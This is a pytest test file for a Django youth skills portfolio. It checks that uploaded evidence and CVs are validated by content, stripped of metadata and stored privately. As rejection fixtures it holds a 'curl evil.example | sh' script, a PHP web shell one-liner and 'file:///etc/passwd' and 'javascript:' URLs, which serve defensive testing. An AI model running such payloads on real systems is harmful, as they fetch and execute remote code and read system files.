"""Evidence and personal documents: files checked by content, cleaned, stored privately."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from network.models import Role
from skills.models import Evidence, PersonalDocument
from skills.storage import private_storage
from skills.uploads import MAX_UPLOAD_BYTES, UploadRejected, check_upload

from .portfolio_helpers import add_achievement, jpeg_bytes, logged_in, pdf_bytes, png_bytes

pytestmark = pytest.mark.django_db


def upload(name: str, content: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def body(response) -> str:
    return response.content.decode()


# --- The checks themselves -------------------------------------------------------------------


def test_photo_is_reencoded_without_exif_gps_or_comment_and_kept_upright():
    checked = check_upload(upload("IMG_2031 Ines maison.jpg", jpeg_bytes()))
    assert checked.kind == "image"
    assert checked.content_type == "image/jpeg"
    assert b"Exif" not in checked.content
    assert b"PhoneMaker" not in checked.content
    assert b"rue de la Gare" not in checked.content
    cleaned = Image.open(io.BytesIO(checked.content))
    assert not cleaned.getexif()
    assert cleaned.size == (30, 60)  # the phone's rotation is applied to the pixels
    assert checked.random_name().endswith(".jpg")
    assert "Ines" not in checked.random_name()


def test_png_webp_and_pdf_are_accepted():
    assert check_upload(upload("a.png", png_bytes(), "image/png")).content_type == "image/png"
    webp = io.BytesIO()
    Image.new("RGB", (10, 10)).save(webp, "WEBP")
    assert check_upload(upload("a.webp", webp.getvalue())).content_type == "image/webp"
    checked = check_upload(upload("cv.pdf", pdf_bytes(), "application/pdf"))
    assert (checked.kind, checked.extension) == ("pdf", "pdf")


def test_the_type_comes_from_the_content_not_the_name():
    # A real photo named .pdf is still a photo; it is stored as .jpg.
    checked = check_upload(upload("scan.pdf", jpeg_bytes(), "application/pdf"))
    assert (checked.kind, checked.extension) == ("image", "jpg")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("photo.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", "neither a photo"),
        ("photo.jpg", b"<?php system($_GET['c']); ?>", "neither a photo"),
        ("vide.jpg", b"", "empty"),
        ("faux.pdf", b"%PDF-1.7\nnot really a pdf", "damaged"),
        ("anim.jpg", b"GIF89a" + b"\x00" * 40, "neither a photo"),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(name, content, message):
    with translation.override("en"), pytest.raises(UploadRejected) as rejected:
        check_upload(upload(name, content))
    assert message in rejected.value.message


def test_pdf_with_a_script_is_refused():
    with translation.override("en"), pytest.raises(UploadRejected, match="script"):
        check_upload(upload("cv.pdf", pdf_bytes(with_script=True), "application/pdf"))


def test_file_over_10_mb_is_refused_before_being_read():
    big = upload("big.jpg", b"\xff\xd8" + b"0" * MAX_UPLOAD_BYTES)
    with pytest.raises(UploadRejected, match="10"):
        check_upload(big)


def test_damaged_photo_is_refused():
    truncated = jpeg_bytes()[:200]
    with pytest.raises(UploadRejected):
        check_upload(upload("cut.jpg", truncated))


# --- Evidence through the pages ------------------------------------------------------------------


def test_youth_adds_a_photo_as_evidence_stored_under_a_random_name(ines):
    achievement = add_achievement(ines)
    client = logged_in(ines)
    response = client.post(
        f"/skills/achievements/{achievement.pk}/evidence/file/",
        {
            "file": upload("Inès devant la banque alimentaire.jpg", jpeg_bytes()),
            "caption": "Le stand",
        },
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get(achievement=achievement)
    assert evidence.kind == Evidence.Kind.IMAGE
    assert evidence.file.name.startswith(f"evidence/{ines.pk}/")
    assert "banque" not in evidence.file.name
    with private_storage().open(evidence.file.name) as stored:
        assert b"Exif" not in stored.read()

    served = client.get(f"/skills/evidence/{evidence.pk}/file/")
    assert served.status_code == 200
    assert served["Content-Type"] == "image/jpeg"
    assert "private" in served["Cache-Control"]
    assert served["X-Content-Type-Options"] == "nosniff"
    page = body(client.get(f"/skills/achievements/{achievement.pk}/"))
    assert f"/skills/evidence/{evidence.pk}/file/" in page
    assert "/media/" not in page


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("too-big.jpg", b"\xff\xd8" + b"0" * (MAX_UPLOAD_BYTES + 10), "10"),
        ("script.jpg", b"#!/usr/bin/env python\nimport os\n", "photo"),
        ("empty.jpg", b"", "empty"),
    ],
)
def test_rejected_evidence_answers_400_with_the_reason_and_keeps_the_rest(
    ines, name, content, expected
):
    achievement = add_achievement(ines)
    response = logged_in(ines).post(
        f"/skills/achievements/{achievement.pk}/evidence/file/",
        {"file": upload(name, content), "caption": "L'affiche du tournoi"},
    )
    assert response.status_code == 400
    errors = " ".join(response.context["file_form"].errors["file"])
    assert expected in errors
    assert "L&#x27;affiche du tournoi" in body(response) or "L'affiche du tournoi" in body(response)
    assert not Evidence.objects.exists()
    assert Achievement_exists(achievement)


def Achievement_exists(achievement) -> bool:  # noqa: N802 (reads as a sentence)
    return type(achievement).objects.filter(pk=achievement.pk).exists()


def test_youth_adds_a_link_but_only_http_or_https(ines):
    achievement = add_achievement(ines)
    client = logged_in(ines)
    url = f"/skills/achievements/{achievement.pk}/evidence/link/"
    for bad in ("javascript:alert(1)", "ftp://example.org/file", "file:///etc/passwd"):
        response = client.post(url, {"url": bad})
        assert response.status_code == 400, bad
    assert not Evidence.objects.exists()
    assert client.post(url, {"url": "https://www.instagram.com/p/abc/"}).status_code == 302
    assert Evidence.objects.get().kind == Evidence.Kind.LINK


def test_deleting_evidence_removes_its_file_after_commit(ines, django_capture_on_commit_callbacks):
    achievement = add_achievement(ines)
    client = logged_in(ines)
    client.post(
        f"/skills/achievements/{achievement.pk}/evidence/file/",
        {"file": upload("a.jpg", jpeg_bytes())},
    )
    evidence = Evidence.objects.get()
    name = evidence.file.name
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/skills/evidence/{evidence.pk}/delete/")
    assert response.status_code == 302
    assert not Evidence.objects.exists()
    assert not private_storage().exists(name)


def test_others_never_get_private_evidence_files(ines, yanis, make_user, client):
    achievement = add_achievement(ines, visibility="only_me")
    logged_in(ines).post(
        f"/skills/achievements/{achievement.pk}/evidence/file/",
        {"file": upload("a.jpg", jpeg_bytes())},
    )
    evidence = Evidence.objects.get()
    recruiter = make_user(
        "sandrine@example.org",
        role=Role.RECRUITER,
        age=None,
        organisation="Entrepôt Lille",
        organisation_kind="company",
    )
    for other in (yanis, recruiter):
        other_client = logged_in(other)
        assert other_client.get(f"/skills/evidence/{evidence.pk}/file/").status_code == 404
        # Another youth: "not found"; a recruiter has no portfolio pages at all (403).
        expected = 404 if other.role == Role.YOUTH else 403
        assert other_client.post(f"/skills/evidence/{evidence.pk}/delete/").status_code == expected
        response = other_client.post(
            f"/skills/achievements/{achievement.pk}/evidence/file/",
            {"file": upload("b.jpg", jpeg_bytes())},
        )
        assert response.status_code == expected
    assert client.get(f"/skills/evidence/{evidence.pk}/file/").status_code == 404
    assert Evidence.objects.count() == 1


# --- Personal documents ------------------------------------------------------------------------


def test_youth_keeps_a_cv_only_she_can_download(ines, yanis, make_user, client):
    me = logged_in(ines)
    response = me.post(
        "/skills/documents/",
        {"title": "Mon CV", "file": upload("CV Inès Benali.pdf", pdf_bytes(), "application/pdf")},
    )
    assert response.status_code == 302
    document = PersonalDocument.objects.get(youth=ines)
    assert not document.shared_with_mentors
    assert "Benali" not in document.file.name
    download = me.get(f"/skills/documents/{document.pk}/file/")
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert "attachment" in download["Content-Disposition"]

    mentor = make_user(
        "nadia@example.org",
        role=Role.MENTOR,
        age=None,
        organisation="Mission Locale de Dijon",
        organisation_kind="mission_locale",
    )
    for other in (yanis, mentor):
        assert logged_in(other).get(f"/skills/documents/{document.pk}/file/").status_code == 404
        assert logged_in(other).post(f"/skills/documents/{document.pk}/delete/").status_code in (
            403,
            404,
        )
    assert client.get(f"/skills/documents/{document.pk}/file/").status_code == 302  # log in


def test_sharing_a_document_with_mentors_only_opens_it_to_linked_mentors(ines, make_user):
    me = logged_in(ines)
    me.post(
        "/skills/documents/",
        {
            "title": "Attestation",
            "file": upload("a.png", png_bytes(), "image/png"),
            "shared_with_mentors": "on",
        },
    )
    document = PersonalDocument.objects.get()
    assert document.shared_with_mentors
    # No mentorship exists yet (another issue): a mentor who is not hers still gets 404.
    mentor = make_user(
        "nadia@example.org",
        role=Role.MENTOR,
        age=None,
        organisation="Mission Locale de Dijon",
        organisation_kind="mission_locale",
    )
    assert logged_in(mentor).get(f"/skills/documents/{document.pk}/file/").status_code == 404

    assert me.post(f"/skills/documents/{document.pk}/share/", {"shared": "0"}).status_code == 302
    document.refresh_from_db()
    assert not document.shared_with_mentors


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("cv.pdf", b"", "empty"),
        ("cv.jpg", b"MZ\x90\x00 this is a windows program", "neither a photo"),
        ("cv.pdf", b"%PDF-1.4 broken", "damaged"),
    ],
)
def test_rejected_documents_answer_400_and_keep_the_title(ines, name, content, expected):
    response = logged_in(ines).post(
        "/skills/documents/", {"title": "Mon CV 2025", "file": upload(name, content)}
    )
    assert response.status_code == 400
    assert expected in " ".join(response.context["form"].errors["file"])
    assert "Mon CV 2025" in body(response)
    assert not PersonalDocument.objects.exists()


def test_deleting_a_document_removes_it(ines, django_capture_on_commit_callbacks):
    me = logged_in(ines)
    me.post("/skills/documents/", {"title": "CV", "file": upload("cv.pdf", pdf_bytes())})
    document = PersonalDocument.objects.get()
    name = document.file.name
    with django_capture_on_commit_callbacks(execute=True):
        assert me.post(f"/skills/documents/{document.pk}/delete/").status_code == 302
    assert not PersonalDocument.objects.exists()
    assert not private_storage().exists(name)


def test_messages_are_in_plain_french_for_french_speakers(ines):
    achievement = add_achievement(ines)
    response = logged_in(ines, language="fr").post(
        f"/skills/achievements/{achievement.pk}/evidence/file/",
        {"file": upload("photo.jpg", b"#!/bin/sh\necho hello\n")},
    )
    assert response.status_code == 400
    assert "ni une photo" in " ".join(response.context["file_form"].errors["file"])


def test_private_files_are_stored_outside_the_public_media_folder() -> None:
    from acrojump.settings import base

    private = base.STORAGES["private"]["OPTIONS"]
    assert private["base_url"] is None
    assert not Path(private["location"]).resolve().is_relative_to(Path(base.MEDIA_ROOT).resolve())
